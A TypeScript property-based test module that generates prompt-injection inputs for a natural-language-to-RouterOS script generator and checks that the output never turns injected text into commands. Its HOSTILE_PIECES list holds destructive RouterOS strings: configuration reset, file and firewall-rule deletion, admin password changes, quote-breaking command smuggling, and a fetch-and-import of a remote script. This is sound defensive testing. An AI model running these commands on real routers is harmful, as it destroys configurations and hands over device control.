/**
 * Arbitraries for hostile prompts: an ordinary request with RouterOS syntax,
 * quotes, substitutions and line breaks put into it, in a quoted comment or
 * in the prompt's own text. Whatever happens to such a prompt, the text must
 * never become a command, a variable or an evaluated expression: see
 * `checkHostileOutput`.
 */
import fc from 'fast-check';
import type { Command, Script, Statement, Value } from '../ast/nodes.js';
import { printScript } from '../rsc/print.js';
import { FAMILY_COMMANDS, forwardPrompt, servicePrompt, type ExpectedPrompt } from './prompts.js';

/** Pieces of hostile text: RouterOS syntax, escapes, quotes and separators. */
export const HOSTILE_PIECES: readonly string[] = [
  '"', "'", '`', '\\', '\\"', '\\n', ';', '\n', '\r\n', '\t', '#', '{', '}', '[', ']', '(', ')', '$',
  '$x', '$"x y"', '$[', '$(', '$[/system reset-configuration]', '$(:execute "/system reboot")', '$[:put 1]', '$(1+1)',
  '/system reset-configuration', '/system reset-configuration no-defaults=yes skip-backup=yes', '/system reboot',
  ':execute "/system reboot"', ':execute {/system reboot}', '[:execute "/system reboot"]', '{/system reboot}',
  '/ip firewall filter remove [find]', ':global x [:parse "/system reboot"]', '/file remove [find]', 'do={/system reboot}',
  '/user set admin password=x', ':local a "b"; /system reboot', '"; /system reboot; "', '\\"; /system reboot #',
  'on-event="/system reboot"', '/system/reset-configuration', ':delay 1', '/tool fetch url="http://x/y" dst-path=a.rsc; /import a.rsc',
  '\u0000', '\u202e', '\u2028', '“', '”', 'é', '😀',
];

/** Hostile text: one to four pieces, joined with nothing or a space. */
export function hostileText(): fc.Arbitrary<string> {
  return fc
    .tuple(fc.array(fc.constantFrom(...HOSTILE_PIECES), { minLength: 1, maxLength: 4 }), fc.constantFrom('', ' '))
    .map(([pieces, glue]) => pieces.join(glue));
}

export type HostilePlacement = 'comment' | 'before' | 'after' | 'inside';

export interface HostilePrompt {
  readonly prompt: string;
  readonly options: ExpectedPrompt['options'];
  readonly family: ExpectedPrompt['family'];
  readonly payload: string;
  readonly placement: HostilePlacement;
  /** The ordinary request the payload was put into. */
  readonly base: ExpectedPrompt;
}

/**
 * A prompt with hostile text in it: as the text of a quoted comment (`with
 * comment "..."`, without `"` in the payload so the quote holds), before or
 * after the request, or between two of its words.
 */
export function hostilePrompt(): fc.Arbitrary<HostilePrompt> {
  const base = fc.oneof(servicePrompt(), forwardPrompt()).filter((p) => !p.prompt.includes('"'));
  return fc
    .record({ base, payload: hostileText(), placement: fc.constantFrom<HostilePlacement>('comment', 'comment', 'before', 'after', 'inside'), at: fc.nat() })
    .map(({ base: b, payload, placement, at }): HostilePrompt => {
      let prompt: string;
      let text = payload;
      switch (placement) {
        case 'comment':
          text = payload.replace(/["“”]/g, '');
          prompt = `${b.prompt.replace(/[.!]$/, '')} with comment "${text}"`;
          break;
        case 'before':
          prompt = `${payload} ${b.prompt}`;
          break;
        case 'after':
          prompt = `${b.prompt} ${payload}`;
          break;
        case 'inside': {
          const words = b.prompt.split(' ');
          const i = 1 + (at % Math.max(1, words.length - 1));
          prompt = [...words.slice(0, i), payload, ...words.slice(i)].join(' ');
          break;
        }
      }
      return { prompt, options: b.options, family: b.family, payload: text, placement, base: b };
    });
}

/** Value kinds that RouterOS computes when the script runs: user text must never become one. */
const EVALUATED = new Set(['variable', 'substitution', 'expression', 'interpolated', 'array', 'block', 'call']);

/** Characters and words that only code has: outside string values, generated text never contains them. */
const CODE_OUTSIDE_STRINGS = /[$[\]{}();#\\`]|reset-configuration|execute|reboot|remove|:parse|:put|:global|:local|import|fetch/;

/**
 * Why the output of a hostile prompt is unsafe, or null: every statement is a
 * command the prompt's family emits, no value is computed at run time, and
 * with every string value blanked the text holds nothing that only code has.
 */
export function checkHostileOutput(script: Script, family: HostilePrompt['family']): string | null {
  const allowed = FAMILY_COMMANDS[family];
  for (const statement of script.statements) {
    if (statement.kind !== 'command') return `a ${statement.kind} statement`;
    const name = `/${statement.path.join(' ')} ${statement.name}`;
    if (!allowed.includes(name)) return `the command ${name}, which the ${family} family does not emit`;
    for (const arg of statement.args) {
      if (arg.kind === 'unset') return `an unset argument !${arg.name}`;
      const value = arg.value;
      const bad = value === null ? null : evaluated(value);
      if (bad) return `a ${bad} value in ${arg.kind === 'named' ? arg.name + '=' : 'an unnamed argument'}`;
    }
  }
  const skeleton = printScript({ kind: 'script', statements: script.statements.map(blankStrings) });
  const code = CODE_OUTSIDE_STRINGS.exec(skeleton);
  return code ? `${JSON.stringify(code[0])} outside a string: ${skeleton.slice(0, 200)}` : null;
}

function evaluated(value: Value): string | null {
  if (EVALUATED.has(value.kind)) return value.kind;
  if (value.kind === 'list') return value.items.map(evaluated).find((x) => x !== null) ?? null;
  if (value.kind === 'negated') return evaluated(value.value);
  return null;
}

function blankStrings(statement: Statement): Statement {
  if (statement.kind !== 'command') return statement;
  const blank = (v: Value): Value => (v.kind === 'string' ? { kind: 'string', value: '' } : v.kind === 'list' ? { kind: 'list', items: v.items.map(blank) } : v.kind === 'negated' ? { kind: 'negated', value: blank(v.value) } : v);
  const command: Command = { ...statement, args: statement.args.map((a) => (a.kind === 'unset' || a.value === null ? a : { ...a, value: blank(a.value) })) };
  return command;
}
